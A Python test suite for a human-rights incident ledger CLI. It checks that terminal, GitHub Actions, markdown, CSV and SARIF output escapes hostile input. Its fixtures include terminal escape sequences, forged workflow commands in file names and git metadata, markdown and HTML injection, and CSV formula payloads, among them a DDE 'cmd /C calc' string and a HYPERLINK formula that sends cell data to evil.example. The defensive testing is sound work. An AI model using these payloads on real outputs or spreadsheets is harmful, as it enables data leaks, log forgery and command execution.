"""SPEC 7, "output cannot be hijacked": hostile records, file names and git
metadata, through the real CLI, for every channel (terminal, GitHub Actions
log lines, markdown, CSV, SARIF)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import jsonschema
import pytest
from ruamel.yaml import YAML

from conftest import invoke
from gitrepo import commit, ledger
from ledger.render import neutral

SARIF_SCHEMA = Path(__file__).parent / "data" / "sarif-schema-2.1.0.json"

OSC52 = "\x1b]52;c;aGk=\x07"  # writes "hi" to the clipboard
CLEAR = "\x1b[2J"
LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
BIDI = "\u202eevil\u2066"
ZERO = "a\u200bb\ufeff"
# Characters that must never reach a terminal raw.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]")
FORGED_NAME = "a\n::error file=README.md,line=1::forged\n.yaml"


def record(rid: str, title: str, *, place: str = "Almaty", name: str = "Ayan", extra: str = "") -> str:
    # JSON strings are YAML double-quoted scalars: escapes such as \u001b survive as characters.
    return ("# yaml-language-server: $schema=../../schema/incident.schema.json\n---\n"
            f"schema_version: 2\nid: {rid}\ntitle: {json.dumps(title)}\ndate: 2021-01-01\n"
            f"status: likely\nlocation:\n  country: KZ\n  place: {json.dumps(place)}\n"
            "acts:\n  - type: arrest\n    victims:\n      - v\n"
            f"actors:\n  - ref: v\n    name: {json.dumps(name)}\n    kind: person\n"
            "sources:\n  - ref: s1\n    url: https://example.org/\n" + extra)


def put(root: Path, rel: str, text: str) -> Path:
    path = root / "incidents" / "2021" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def command_lines(text: str) -> list[str]:
    """Lines the GitHub runner would execute: "::" after leading white space,
    or a legacy "##[" anywhere."""
    return [ln for ln in text.splitlines() if ln.lstrip().startswith("::") or "##[" in ln]


# -- the functions ------------------------------------------------------------------

def test_terminal_shows_every_hidden_character_escaped() -> None:
    assert neutral.terminal(OSC52 + CLEAR) == "\\x1b]52;c;aGk=\\x07\\x1b[2J"
    assert neutral.terminal(BIDI + ZERO) == "\\u202eevil\\u2066a\\u200bb\\ufeff"
    assert neutral.terminal("\x9b31m\x7f\x00") == "\\x9b31m\\x7f\\x00"
    assert neutral.terminal("tab\tand\nnewline stay") == "tab\tand\nnewline stay"
    # Persian and emoji need ZWNJ/ZWJ; next to ASCII they only hide a join.
    assert neutral.terminal("می\u200cخواهم 👩\u200d⚕") == "می\u200cخواهم 👩\u200d⚕"
    assert neutral.terminal("Ilya\u200dshev") == "Ilya\\u200dshev"


def test_line_cannot_start_a_line_or_a_workflow_command() -> None:
    assert neutral.line("a\n::add-mask::NAME\r\n") == "a\\n::add-mask::NAME\\r\\n"
    assert neutral.line("  ::stop-commands::x") == "  \\::stop-commands::x"
    assert neutral.line("see ##[error]x") == "see ##\\[error]x"
    assert neutral.line("IPv6 ::1 and a::b") == "IPv6 ::1 and a::b"
    assert neutral.terminal("one\n ::error::x") == "one\n \\::error::x"


def test_markdown_escapes_markup_and_html() -> None:
    assert neutral.markdown("![pixel](https://evil.example/p.png)") == "\\!\\[pixel\\](https://evil.example/p.png)"
    assert neutral.markdown("`a|<img src=x>`") == "\\`a\\|\\<img src=x\\>\\`"
    assert neutral.markdown("# big\nline") == "\\# big<br>line"
    assert neutral.markdown("1. x") == "1\\. x"
    assert neutral.code("incidents/2020/a-b.yaml") == "`incidents/2020/a-b.yaml`"
    assert neutral.code("a|b`c") == "a\\|b\\`c"


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("https://evil.example/?x="&A1,"click")', '\'=HYPERLINK("https://evil.example/?x="&A1,"click")'),
    ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a\n::add-mask::x", "a\n\\::add-mask::x"), ("a\r ::x", "a\r \\::x"),
    ("##[error]x", "##\\[error]x"),
    ("a::b", "a::b"), ("-3.5", "-3.5"), ("+7", "+7"), ("1e-3", "1e-3"), ("plain", "plain"),
    (3, 3), (None, None),
])
def test_csv_cell(value: object, cell: object) -> None:
    assert neutral.csv_cell(value) == cell


# -- terminal ---------------------------------------------------------------------------

def test_list_show_actors_summary_show_escapes(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    put(ledger_dir, "2021-01-01-osc-aaaa.yaml",
        record("2021-01-01-osc-aaaa", f"T {OSC52}", name=f"N {CLEAR}"))
    put(ledger_dir, "2021-01-01-bidi-bbbb.yaml", record("2021-01-01-bidi-bbbb", f"B {BIDI}", place=LINK))
    outputs = {
        "list": run("list", "--since", "2021"),
        "show": run("show", "2021-01-01-osc-aaaa"),
        "show2": run("show", "2021-01-01-bidi-bbbb"),
        "actors": run("actors", "--since", "2021"),
        "summary": run("summary", "--by", "title", "--since", "2021"),
        "summary-place": run("summary", "--by", "location.place", "--by", "year", "--since", "2021"),
    }
    for name, result in outputs.items():
        assert result.exit_code == 0, (name, result.stderr)
        assert not RAW.search(result.stdout), name
    assert "\\x1b]52;c;aGk=\\x07" in outputs["show"].stdout
    assert "N \\x1b[2J" in outputs["show"].stdout and "N \\x1b[2J" in outputs["actors"].stdout
    assert "\\u202eevil\\u2066" in outputs["list"].stdout
    assert "\\x1b]8;;https://evil.example\\x1b\\click" in outputs["show2"].stdout
    assert "T \\x1b]52;c;aGk=\\x07" in outputs["summary"].stdout
    assert "\\x1b]8;;" in outputs["summary-place"].stdout
    # Machine formats keep the value exactly.
    doc = json.loads(run("show", "2021-01-01-osc-aaaa", "--format", "json").stdout)
    assert doc["title"] == f"T {OSC52}"


def test_validate_messages_are_escaped_and_warn(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    put(ledger_dir, "2021-01-01-osc-aaaa.yaml", record("2021-01-01-osc-aaaa", f"T {CLEAR}{BIDI}"))
    result = run("validate")
    assert result.exit_code == 0, result.stdout  # a warning only
    assert ("incidents/2021/2021-01-01-osc-aaaa.yaml:5:8: warning: title holds a hidden or control "
            "character (\\x1b at character 3, and 2 more) [control-character-in-text]\n") in result.stdout
    assert not RAW.search(result.stdout)
    assert run("validate", "--strict").exit_code == 1
    github = run("validate", "--format", "github", "--strict")
    assert github.exit_code == 1 and not RAW.search(github.stdout)
    assert github.stdout.startswith(
        "::error file=incidents/2021/2021-01-01-osc-aaaa.yaml,line=5,col=8,title=control-character-in-text::"
        "title holds a hidden or control character (\\x1b at character 3, and 2 more)%0A")
    doc = json.loads(run("validate", "--format", "json").stdout)
    [p] = doc["problems"]
    assert (p["line"], p["column"], p["severity"], p["pointer"]) == (5, 8, "warning", "/title")


def test_json_keeps_values_and_prints_safely(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    title = f"##[add-mask]x {BIDI} \x85 {ZERO}"
    put(ledger_dir, "2021-01-01-json-kkkk.yaml", record("2021-01-01-json-kkkk", title))
    for args in (("list", "--format", "json"), ("list", "--format", "jsonl"), ("export", "--format", "json"),
                 ("summary", "--by", "title", "--format", "json")):
        result = run(*args, "--since", "2021")
        assert result.exit_code == 0, (args, result.stderr)
        assert not RAW.search(result.stdout) and "##[" not in result.stdout, args
        assert "\\u0023#[add-mask]x \\u202eevil\\u2066 \\u0085" in result.stdout, args
    [doc] = json.loads(run("list", "--format", "json", "--since", "2021").stdout)
    assert doc["title"] == title
    listed = run("list", "--format", "yaml", "--since", "2021")
    shown = run("show", "2021-01-01-json-kkkk", "--format", "yaml")
    for result in (listed, shown):
        assert result.exit_code == 0, result.stderr
        assert not RAW.search(result.stdout) and "##[" not in result.stdout
        assert 'title: "\\x23#[add-mask]x \\u202eevil\\u2066 \\N a\\u200bb\\uFEFF"' in result.stdout
        [doc] = [d for d in YAML(typ="safe").load_all(result.stdout)]
        assert doc["title"] == title
    ids = run("list", "--format", "ids", "--since", "2021")
    assert ids.stdout == "2021-01-01-json-kkkk\n"


# -- lines GitHub Actions reads ---------------------------------------------------------------

def test_validate_github_lists_a_forged_file_name_on_one_line(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    text = record("2021-01-01-forge-cccc", "x", extra='"x\\n::stop-commands::x": 1\n')
    put(ledger_dir, FORGED_NAME, text.replace("status: likely", 'status: "likely\\n::add-mask::NAME"'))
    result = run("validate", "--format", "github")
    assert result.exit_code == 1
    forged = "incidents/2021/a\\n::error file=README.md,line=1::forged\\n.yaml"
    assert (f"{forged}:4:5: error: id '2021-01-01-forge-cccc' does not match the file name "
            "'a\\n::error file=README.md,line=1::forged\\n' [id-mismatch]\n") in result.stdout
    assert f"{forged}:22:1: error: unknown field 'x\\n::stop-commands::x' in record [schema-unknown-field]" \
        in result.stdout
    assert (f"{forged}:7:9: error: 'likely\\n::add-mask::NAME' is not a known status (in status) "
            "[schema-enum]") in result.stdout
    # The only commands are ledger's own annotations, with the name %-escaped in them.
    commands = command_lines(result.stdout)
    assert commands and all(c.startswith(("::error file=incidents/2021/a%0A%3A%3Aerror file=README.md%2C",
                                          "::warning file=")) for c in commands), commands
    for fmt in ("text", "json", "sarif"):
        assert command_lines(run("validate", "--format", fmt).stdout) == [], fmt


def test_fmt_check_and_errors_name_hostile_files_on_one_line(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    put(ledger_dir, FORGED_NAME, record("x-forged", "x").replace("---\n", "---\n\n\n"))
    put(ledger_dir, "b\n::add-mask::NAME\n.yaml", "title: [unclosed\n")
    result = run("fmt", "--check")
    assert result.exit_code == 1
    assert result.stdout == ("would reformat "
                             "incidents/2021/a\\n::error file=README.md,line=1::forged\\n.yaml\n")
    assert "incidents/2021/b\\n::add-mask::NAME\\n.yaml:" in result.stderr
    assert command_lines(result.stdout + result.stderr) == []
    diffed = run("fmt", "--diff")
    assert diffed.exit_code == 1
    assert "+++ b/incidents/2021/a\\n::error file=README.md,line=1::forged\\n.yaml" in diffed.stdout
    assert command_lines(diffed.stdout + diffed.stderr) == []


def test_error_handler_escapes_what_it_names(run) -> None:  # type: ignore[no-untyped-def]
    result = run("validate", f"nowhere\n::add-mask::NAME{CLEAR}")
    assert result.exit_code == 2
    assert result.stderr == "ledger: error: nowhere\\n::add-mask::NAME\\x1b[2J: no such file or folder\n"


def test_diff_and_log_escape_git_and_record_text(repo: Path) -> None:
    title = f"T {OSC52}\n::add-mask::NAME"
    put(repo, "2021-01-01-git-dddd.yaml",
        record("2021-01-01-git-dddd", title, extra="description: |\n  one\n  ::stop-commands::x\n"))
    commit(repo, f"Add {CLEAR} ##[add-mask]x", author=f"Eve {BIDI}")
    put(repo, "2021-01-01-git-dddd.yaml",
        record("2021-01-01-git-dddd", title + "!", extra="description: |\n  two\n  ::stop-commands::y\n"))
    put(repo, FORGED_NAME, "title: [unclosed\n")
    outputs = [ledger(repo, "diff"), ledger(repo, "diff", "HEAD~1..HEAD"),
               ledger(repo, "log", "2021-01-01-git-dddd")]
    for result in outputs:
        assert result.exit_code == 0, result.stderr
        assert not RAW.search(result.stdout + result.stderr)
        assert command_lines(result.stdout + result.stderr) == [], result.stdout + result.stderr
    changed, added, log = (r.stdout for r in outputs)
    # The marker leads each line of a value, so none starts with record text.
    assert ("        - one\n        - \\::stop-commands::x\n"
            "        + two\n        + \\::stop-commands::y\n") in changed
    assert "    T \\x1b]52;c;aGk=\\x07\\n::add-mask::NAME" in added
    assert "a\\n::error file=README.md,line=1::forged\\n.yaml" in outputs[0].stderr
    assert "Eve \\u202eevil\\u2066 <eve@example.org>" in log
    assert "    Add \\x1b[2J ##\\[add-mask]x" in log


# -- markdown ---------------------------------------------------------------------------------

MD_TITLE = "![pixel](https://evil.example/p.png) [Approve this PR](https://evil.example) `a|<img src=x>`"
MD_ESCAPED = ("\\!\\[pixel\\](https://evil.example/p.png) \\[Approve this PR\\](https://evil.example) "
              "\\`a\\|\\<img src=x\\>\\`")


def test_markdown_diff_and_summary_keep_user_text_literal(repo: Path) -> None:
    put(repo, "2021-01-01-md-eeee.yaml", record("2021-01-01-md-eeee", MD_TITLE, place="a|b <i>x</i>"))
    put(repo, "x|<img src=y>.yaml", record("x-img", "t"))
    result = ledger(repo, "diff", "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    assert (f"| `2021-01-01-md-eeee` | {MD_ESCAPED} | `incidents/2021/2021-01-01-md-eeee.yaml` |"
            in result.stdout)
    assert "| `x-img` | t | incidents/2021/x\\|\\<img src=y\\>.yaml |" in result.stdout
    assert "<img" not in result.stdout.replace("\\<img", "")
    summary = ledger(repo, "summary", "--by", "title", "--since", "2021", "--format", "markdown")
    assert summary.exit_code == 0, summary.stderr
    assert f"| {MD_ESCAPED} | 1 |" in summary.stdout
    pivot = ledger(repo, "summary", "--by", "location.place", "--by", "year", "--since", "2021",
                   "--format", "markdown")
    assert "| a\\|b \\<i\\>x\\</i\\> | 1 | 1 |" in pivot.stdout
    assert pivot.stdout.splitlines()[1] == "| --- | ---: | ---: |"


# -- CSV ---------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_are_never_formulas_unless_raw(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    put(ledger_dir, "2021-01-01-csv-ffff.yaml",
        record("2021-01-01-csv-ffff", FORMULA, place="@SUM(A1)", name="+cmd|' /C calc'!A0"))
    for args in (("list", "--format", "csv"), ("export", "--format", "csv")):
        result = run(*args, "--since", "2021")
        assert result.exit_code == 0, result.stderr
        [row] = _rows(result.stdout)
        assert row["title"] == "'" + FORMULA and row["place"] == "'@SUM(A1)", args
        [raw] = _rows(run(*args, "--since", "2021", "--raw").stdout)
        assert raw["title"] == FORMULA and raw["place"] == "@SUM(A1)", args
    actors = run("export", "--format", "csv", "--table", "actors", "--since", "2021")
    assert [r["name"] for r in _rows(actors.stdout)] == ["'+cmd|' /C calc'!A0"]
    summary = run("summary", "--by", "location.place", "--since", "2021", "--format", "csv")
    assert summary.exit_code == 0
    assert summary.stdout == "location.place,count\n'@SUM(A1),1\n"
    assert run("summary", "--by", "location.place", "--since", "2021", "--format", "csv",
               "--raw").stdout == "location.place,count\n@SUM(A1),1\n"
    # JSON keeps the value exactly.
    [doc] = json.loads(run("list", "--format", "json", "--since", "2021").stdout)
    assert doc["title"] == FORMULA


def test_csv_cells_spanning_lines_start_no_command(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    extra = 'description: "one\\n::stop-commands::tok\\n  ##[add-mask]x"\n'
    put(ledger_dir, "2021-01-01-csv-llll.yaml", record("2021-01-01-csv-llll", "t", extra=extra))
    for args in (("list", "--format", "csv"), ("export", "--format", "csv")):
        result = run(*args, "--since", "2021")
        assert result.exit_code == 0, result.stderr
        assert command_lines(result.stdout) == [], args
        [row] = _rows(result.stdout)
        assert row["description"] == "one\n\\::stop-commands::tok\n  ##\\[add-mask]x"
        [raw] = _rows(run(*args, "--since", "2021", "--raw").stdout)
        assert raw["description"] == "one\n::stop-commands::tok\n  ##[add-mask]x"


def test_csv_keeps_plain_negative_numbers(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    text = record("2021-01-01-num-gggg", "-5 arrested").replace(
        "  place:", "  lat: -3.5\n  lon: -70\n  place:")
    put(ledger_dir, "2021-01-01-num-gggg.yaml", text)
    result = run("export", "--format", "csv", "--since", "2021")
    assert result.exit_code == 0, result.stderr
    [row] = _rows(result.stdout)
    assert (row["lat"], row["lon"], row["title"]) == ("-3.5", "-70", "'-5 arrested")


# -- SARIF --------------------------------------------------------------------------------------

HOSTILE_NAMES = ["100%done.yaml", "a b#c.yaml", "ü.yaml", "new\nline.yaml"]


def _sarif(run, strict: bool = False) -> dict:  # type: ignore[no-untyped-def,type-arg]
    result = run("validate", "--format", "sarif", *(["--strict"] if strict else []))
    assert result.exit_code == 1
    doc: dict = json.loads(result.stdout)  # type: ignore[type-arg]
    return doc


def test_sarif_validates_against_the_official_schema(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    for name in HOSTILE_NAMES:
        put(ledger_dir, name, record("2021-01-01-sarif-hhhh", f"t {CLEAR}"))
    doc = _sarif(run)
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft4Validator(schema, format_checker=jsonschema.FormatChecker()).validate(doc)
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in doc["runs"][0]["results"]}
    assert {"incidents/2021/100%25done.yaml", "incidents/2021/a%20b%23c.yaml", "incidents/2021/%C3%BC.yaml",
            "incidents/2021/new%0Aline.yaml"} <= uris
    rules = {r["id"]: r for r in doc["runs"][0]["tool"]["driver"]["rules"]}
    assert rules["id-mismatch"]["fullDescription"]["text"] == "The record's id differs from its file name."
    assert rules["id-mismatch"]["help"]["text"] == "Rename the file to <id>.yaml, or change the id."
    assert rules["control-character-in-text"]["help"]["text"].startswith("Remove the character")


def test_the_schema_check_catches_unencoded_uris() -> None:
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    validator = jsonschema.Draft4Validator(schema, format_checker=jsonschema.FormatChecker())
    where = {"physicalLocation": {"artifactLocation": {"uri": "a b#c.yaml"}}}
    bad = {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": [
        {"message": {"text": "m"}, "locations": [where]}]}]}
    assert not validator.is_valid(bad)


def test_sarif_levels_follow_the_exit_code(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    put(ledger_dir, "2021-01-01-lvl-iiii.yaml", record("2021-01-01-lvl-iiii", f"t {CLEAR}"))
    put(ledger_dir, "wrong-name.yaml", record("2021-01-01-other-jjjj", "t"))
    levels = {(r["ruleId"], r["level"]) for r in _sarif(run)["runs"][0]["results"]}
    assert levels == {("control-character-in-text", "warning"), ("id-mismatch", "error")}
    strict = {(r["ruleId"], r["level"]) for r in _sarif(run, strict=True)["runs"][0]["results"]}
    assert strict == {("control-character-in-text", "error"), ("id-mismatch", "error")}


def test_strict_sarif_with_only_warnings_fails_as_error(run, ledger_dir: Path) -> None:  # type: ignore[no-untyped-def]
    put(ledger_dir, "2021-01-01-lvl-iiii.yaml", record("2021-01-01-lvl-iiii", f"t {CLEAR}"))
    plain = invoke(["--ledger", str(ledger_dir), "validate", "--format", "sarif"])
    assert plain.exit_code == 0
    assert {r["level"] for r in json.loads(plain.stdout)["runs"][0]["results"]} == {"warning"}
    assert {r["level"] for r in _sarif(run, strict=True)["runs"][0]["results"]} == {"error"}
